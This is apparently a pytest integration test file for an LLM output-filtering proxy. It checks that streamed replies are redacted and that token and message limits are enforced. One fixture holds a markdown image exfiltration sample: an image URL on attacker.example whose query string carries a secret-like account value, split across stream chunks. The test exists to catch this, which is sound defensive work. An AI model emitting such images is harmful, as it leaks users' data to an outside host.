"""Unsafe output and request limits through a real Envoy: an exfiltration image split across Ollama NDJSON
lines reaches the client neutralised while an allowed image passes byte-for-byte; output caps are clamped in
the body the model server receives or refused in the API's own format."""

import json

import pytest
from conftest import make_stack
from test_streaming_shapes import anthropic_records, anthropic_text, ollama_records, ollama_text

pytestmark = pytest.mark.integration

POLICY = """version: 1
settings:
  limits: {max_messages: 4, max_output_tokens: 256}
rules:
  - id: exfiltration-images
    detector: unsafe_links
    direction: response
    action: redact
    params: {images_only: true, allowed_domains: [docs.example.com]}
"""
DENY_OVER = POLICY.replace("max_output_tokens: 256}", "max_output_tokens: 256, on_output_over: deny}")
EXFIL = ["Here is the chart ", "![sales](https://attac", "ker.example/p.png?d=", "acct-4417-secret", ") done."]
ALLOWED = ["See ", "![diagram](https://docs.", "example.com/arch.png)", " for the layout."]


@pytest.fixture(scope="module")
def stack(request, tmp_path_factory, upstream):
    return make_stack(request, tmp_path_factory, upstream, POLICY)


def ollama_chat(messages=None, **options):
    return {"model": "llama3", "messages": messages or [{"role": "user", "content": "chart please"}], **options}


def test_an_exfiltration_image_split_across_ndjson_lines_is_neutralised(stack, upstream):
    upstream.respond("/api/chat", headers={"content-type": "application/x-ndjson"},
                     chunks=ollama_records(EXFIL), chunk_delay=0.02)
    reply, _ = stack.stream("/api/chat", ollama_chat(), {"x-request-id": "exfil-1"})
    assert reply.status == 200
    assert ollama_text(reply.body) == "Here is the chart [image removed: sales] done."
    assert b"attacker.example" not in reply.body and b"acct-4417" not in reply.body
    record = stack.audit_for("exfil-1")
    assert record["decision"] == "redact"
    assert [(h["rule"], h["label"], h["owasp"]) for h in record["hits"]] == [
        ("exfiltration-images", "unsafe_image", ["LLM05:2025", "LLM10:2026"])]
    assert "attacker" not in json.dumps(record)


def test_an_allowed_image_streams_byte_for_byte(stack, upstream):
    chunks = anthropic_records(ALLOWED)
    upstream.respond("/v1/messages", headers={"content-type": "text/event-stream"}, chunks=chunks)
    reply, _ = stack.stream("/v1/messages", {"model": "claude", "max_tokens": 100, "stream": True,
                                             "messages": [{"role": "user", "content": "layout?"}]})
    assert reply.status == 200
    assert reply.body == b"".join(chunks)
    assert anthropic_text(reply.body) == "".join(ALLOWED)


def test_an_output_cap_above_the_limit_is_clamped_in_the_body_the_model_receives(stack, upstream):
    upstream.respond("/api/chat", headers={"content-type": "application/x-ndjson"}, chunks=ollama_records(["ok"]))
    before = len(upstream.requests)
    reply, _ = stack.stream("/api/chat", ollama_chat(options={"num_predict": 5000, "temperature": 0.2}))
    assert reply.status == 200
    sent = upstream.requests[before].json()
    assert sent["options"] == {"num_predict": 256, "temperature": 0.2}
    assert int(upstream.requests[before].headers["content-length"]) == len(upstream.requests[before].body)


def test_too_many_messages_are_refused_in_the_api_format(stack, upstream):
    before = len(upstream.requests)
    messages = [{"role": "user", "content": f"m{i}"} for i in range(5)]
    reply = stack.post("/api/chat", ollama_chat(messages))
    assert reply.status == 413
    assert reply.json()["error"].startswith("the request has 5 messages")
    assert len(upstream.requests) == before


def test_on_output_over_deny_refuses_instead_of_clamping(request, tmp_path_factory, upstream):
    stack = make_stack(request, tmp_path_factory, upstream, DENY_OVER)
    before = len(upstream.requests)
    reply = stack.post("/v1/chat/completions", {"model": "m", "max_tokens": 9000,
                                                "messages": [{"role": "user", "content": "hi"}]})
    assert reply.status == 413
    assert reply.json()["error"]["code"] == "max_tokens_too_large"
    assert len(upstream.requests) == before
